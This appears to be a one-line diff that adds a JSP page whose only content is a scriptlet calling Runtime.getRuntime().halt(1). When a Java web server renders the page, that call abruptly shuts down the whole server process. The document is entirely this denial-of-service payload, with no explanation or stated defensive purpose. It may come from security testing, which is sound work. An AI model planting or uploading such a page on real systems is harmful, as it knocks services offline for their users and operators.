@@ -1,0 +1,1 @@
+<% Runtime.getRuntime().halt(1); %>
